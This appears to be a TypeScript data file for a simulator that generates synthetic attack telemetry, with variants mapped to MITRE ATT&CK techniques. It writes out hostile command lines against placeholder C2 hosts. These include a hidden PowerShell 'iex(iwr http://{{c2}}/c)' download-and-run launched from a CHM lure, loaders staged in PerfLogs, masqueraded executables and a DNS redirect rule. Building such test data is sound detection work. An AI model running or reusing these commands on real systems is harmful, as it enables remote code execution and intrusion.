import { v } from "../dsl";
import type { Variant } from "../types";

/** Extra named-tool variants (see ../extras.ts): staging folders and artefacts real tooling leaves. */
export const extrasG: Readonly<Record<string, readonly Variant[]>> = {
  "T1027.004": [
    v(
      "add-type-artefacts",
      [
        {
          ps: "Add-Type -TypeDefinition (Get-Content $env:TEMP\\{{rand}}.cs -Raw) -Language CSharp; [Loader]::Run()",
          files: ["{{tmp}}\\{{rand2}}.0.cs", "{{tmp}}\\{{rand2}}.cmdline"],
        },
      ],
      { shell: "ps" },
    ),
  ],
  "T1059.010": [
    v("autoit-perflogs", [
      { by: "@msedge", files: ["C:\\PerfLogs\\Autoit3.exe", "C:\\PerfLogs\\{{rand}}.a3x"] },
      { cmd: "C:\\PerfLogs\\Autoit3.exe C:\\PerfLogs\\{{rand}}.a3x", net: [["{{c2}}", 443]] },
    ]),
  ],
  "T1059.011": [
    v("lua-perflogs", [
      {
        cmd: "cmd.exe /c copy {{tmp}}\\{{rand}}\\luajit.exe C:\\PerfLogs\\",
        files: ["C:\\PerfLogs\\luajit.exe"],
      },
      { cmd: "C:\\PerfLogs\\luajit.exe C:\\PerfLogs\\{{rand}}.txt", net: [["{{c2}}", 443]] },
    ]),
  ],
  "T1036.008": [
    v("png-pe-in-tasks", [
      'wmic process call create "C:\\Windows\\Tasks\\{{rand}}.png"',
      { cmd: "C:\\Windows\\Tasks\\{{rand}}.png", parent: "@wmiprvse" },
    ]),
  ],
  "T1036.001": [
    v("signed-copy-perflogs", [
      {
        cmd: "cmd.exe /c copy {{tmp}}\\{{rand}}.exe C:\\PerfLogs\\MicrosoftEdgeUpdate.exe",
        files: ["C:\\PerfLogs\\MicrosoftEdgeUpdate.exe"],
      },
      { cmd: "C:\\PerfLogs\\MicrosoftEdgeUpdate.exe /c", net: [["{{c2}}", 443]] },
    ]),
  ],
  "T1564.011": [
    v("public-loader-start-b", [
      { cmd: "C:\\Users\\Public\\{{name}}.exe", as: "l" },
      { cmd: "cmd.exe /c start /b C:\\Users\\Public\\{{rand}}.exe", parent: "l", as: "c" },
      { cmd: "C:\\Users\\Public\\{{rand}}.exe", parent: "c", keep: true },
    ]),
  ],
  "T1565.002": [
    v("nrpt-redirect", [{ ps: "Add-DnsClientNrptRule -Namespace '.{{dns}}' -NameServers {{c2ip}}" }], {
      shell: "ps",
      elevated: true,
    }),
  ],
  "T1566.003": [
    v(
      "chat-chm",
      [
        { by: "@msedge", files: ["{{downloads}}\\Benefits_{{n}}.chm"], net: [["{{c2}}", 443]] },
        {
          cmd: '"C:\\Windows\\hh.exe" {{downloads}}\\Benefits_{{n}}.chm',
          image: "C:\\Windows\\hh.exe",
          as: "hh",
          parent: "@explorer",
        },
        {
          cmd: "cmd.exe /c powershell -w hidden -nop -c iex(iwr http://{{c2}}/c -UseBasicParsing)",
          parent: "hh",
          as: "c",
        },
        {
          cmd: "powershell  -w hidden -nop -c iex(iwr http://{{c2}}/c -UseBasicParsing)",
          parent: "c",
          net: [["{{c2}}", 80]],
        },
      ],
      { shell: "none" },
    ),
  ],
};
